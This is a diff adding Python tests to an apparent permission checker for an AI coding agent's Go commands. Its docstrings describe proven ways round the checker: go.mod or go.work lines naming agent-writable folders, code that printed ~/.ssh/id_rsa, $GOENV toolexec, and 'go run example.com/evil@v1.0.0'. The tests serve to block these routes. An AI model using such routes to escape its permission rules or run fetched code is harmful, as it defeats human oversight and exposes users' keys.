@@ -872,6 +872,101 @@ def test_go_asks_when_the_agent_may_write_the_current_package_or_its_settings(se
     assert (_effect(setup, "go test") is Effect.ALLOW) is allowed
 
 
+_GO_MOD_CASES = [
+    ("module app\n", None, True),
+    ("module app\nreplace example.com/lib => ../out/lib\n", None, False),
+    ("module app\n\nreplace (\n\texample.com/lib v1.0.0 => \"../out/lib\" // local\n)\n", None, False),
+    ("module app\nreplace example.com/lib => `../out`\n", None, False),
+    ("module app\nreplace example.com/lib => example.com/fork v1.2.0\n", None, True),
+    ("module app\nreplace example.com/lib => ../src\n", None, True),
+    ("module app\n// replace example.com/lib => ../out/lib\n", None, True),
+    ("module app\nreplace example.com/lib => \"../out/lib\n", None, False),  # not parsed: ask
+    ("module app\nreplace (\n", None, False),
+    ("module app\n", "go 1.19\nuse ./app\n", True),
+    ("module app\n", "go 1.19\nuse ./app\nuse ./out/wlib\n", False),
+    ("module app\n", "go 1.19\nuse (\n\t./app\n\t./out/wlib\n)\n", False),
+    ("module app\n", "go 1.19\nuse ./app\nreplace x.y/z => ./out/z\n", False),
+    ("module app\n", "go 1.19\nuse ./app extra\n", False),
+]
+
+
+@pytest.mark.parametrize(("go_mod", "go_work", "allowed"), _GO_MOD_CASES)
+def test_go_asks_when_go_mod_or_go_work_names_a_folder_the_agent_may_write(
+        setup: Setup, go_mod: str, go_work: str | None, allowed: bool) -> None:
+    """go builds the code of the folders its go.mod's ``replace`` lines and its go.work's
+    ``use``/``replace`` lines name, outside the packages the line names: with ``replace
+    example.com/lib => ../out/lib`` (or go.work's ``use ../out/wlib``), ``cd app && go run .``
+    ran the init() of a package the agent had written into out/, and ``go vet .`` compiled its
+    cgo preamble, which printed ~/.ssh/id_rsa (proven with Debian's go 1.19 under bash and dash;
+    corpus issue s115). Those folders now count, below too; a go.mod or go.work not parsed asks."""
+    (setup.workspace / "app").mkdir()
+    (setup.workspace / "app" / "go.mod").write_text(go_mod, encoding="utf-8")
+    if go_work is not None:
+        (setup.workspace / "go.work").write_text(go_work, encoding="utf-8")
+    setup.write_user_rules(_rules("[cd|go build|go test|go vet|go run] **") + _rules("@workspace/out/**", tool="write"))
+    for line in ("cd app && go run .", "cd app && go vet .", "cd app && go test ./pkg"):
+        assert (_effect(setup, line) is Effect.ALLOW) is allowed, line
+
+
+@pytest.mark.parametrize(("writable", "allowed"), [("@workspace/out/**", True), ("@workspace/app/gen/**", False),
+                                                    ("@workspace/app/gen/*.go", False),
+                                                    ("@workspace/app/cmd/x/*.txt", True)])
+def test_go_asks_when_the_agent_may_write_any_package_of_the_module(setup: Setup, writable: str,
+                                                                      allowed: bool) -> None:
+    """``go run ./cmd/app`` builds every package it imports from its own module: one the agent
+    wrote into gen/lib ran its init() (proven with go 1.19; corpus issue s115). Any package of
+    the module (the folder of the nearest go.mod, below too) now counts."""
+    (setup.workspace / "app").mkdir()
+    (setup.workspace / "app" / "go.mod").write_text("module app\n", encoding="utf-8")
+    setup.write_user_rules(_rules("[cd|go build|go test|go vet|go run] **") + _rules(writable, tool="write"))
+    for line in ("cd app && go run ./cmd/x", "cd app && go test ./cmd/x", "cd app && go vet ./cmd/x"):
+        assert (_effect(setup, line) is Effect.ALLOW) is allowed, line
+
+
+def test_go_asks_for_a_go_work_named_by_gowork_that_the_agent_may_write(setup: Setup,
+                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    """``$GOWORK`` (in the environment the commands inherit) names the go.work go reads."""
+    (setup.workspace / "out").mkdir(exist_ok=True)
+    monkeypatch.setenv("GOWORK", str(setup.workspace / "out" / "go.work"))
+    setup.write_user_rules(_rules("go build **") + _rules("@workspace/out/**", tool="write"))
+    assert _effect(setup, "go build ./cmd/x") is not Effect.ALLOW
+    monkeypatch.setenv("GOWORK", "off")
+    assert _effect(setup, "go build ./cmd/x") is Effect.ALLOW
+
+
+@pytest.mark.parametrize("variable", ["GOENV", "GOPATH", "GOMODCACHE"])
+def test_go_asks_where_its_environment_names_a_file_or_folder_the_agent_may_write(
+        setup: Setup, monkeypatch: pytest.MonkeyPatch, variable: str) -> None:
+    """The environment the commands inherit may move go's env file (``$GOENV``: its
+    ``GOFLAGS=-toolexec=out/x`` ran out/x under a plain ``go build``, proven with go 1.19), its
+    GOPATH and module cache (code it builds) into a folder the agent may write."""
+    (setup.workspace / "out").mkdir(exist_ok=True)
+    value = str(setup.workspace / "out" / ("env" if variable == "GOENV" else "gopath"))
+    setup.write_user_rules(_rules("[go build|go env] **") + _rules("@workspace/out/**", tool="write"))
+    for name in ("GOENV", "GOPATH", "GOMODCACHE"):
+        monkeypatch.delenv(name, raising=False)
+    assert _effect(setup, "go build ./cmd/x") is Effect.ALLOW
+    monkeypatch.setenv(variable, value)
+    assert _effect(setup, "go build ./cmd/x") is not Effect.ALLOW
+    if variable == "GOENV":
+        assert _effect(setup, "go env GOPATH") is not Effect.ALLOW
+
+
+def test_go_run_or_install_of_a_module_version_asks_unless_a_rule_names_it(setup: Setup) -> None:
+    """``go run PKG@VERSION`` and ``go install PKG@VERSION`` download a module from GOPROXY
+    (proxy.golang.org: anyone may publish there), outside any go.mod, build it and run it:
+    proven with go 1.19 and a file:// GOPROXY serving a module whose main wrote a file, which
+    ``go run example.com/evil@v1.0.0`` did. A rule's ``**`` does not cover it; naming it does."""
+    setup.write_user_rules(_rules("[go run|go install|go build] **", "go run golang.org/x/tools/cmd/stringer@v0.1.12 **"))
+    for line in ("go run ./cmd/x", "go run . -v", "go run ./cmd/x a@b", "go build ./cmd/x",
+                 "go run golang.org/x/tools/cmd/stringer@v0.1.12 -type=T"):
+        assert _effect(setup, line) is Effect.ALLOW, line
+    for line in ("go run example.com/evil@v1.0.0", "go run example.com/evil@latest -x", "go run -race example.com/e@v1",
+                 "go install golang.org/x/tools/gopls@latest", "go install -v example.com/e@v1 example.com/f@v2",
+                 "go run golang.org/x/tools/cmd/stringer@v0.1.13"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+
+
 def test_pnpm_filter_and_yarn_workspace_run_another_folders_scripts(setup: Setup) -> None:
     """``pnpm --filter out test`` (``-F``, ``-r``/``--recursive``) and ``yarn workspace out run
     test`` / ``yarn workspaces run test`` run the test script of out/package.json, a folder the
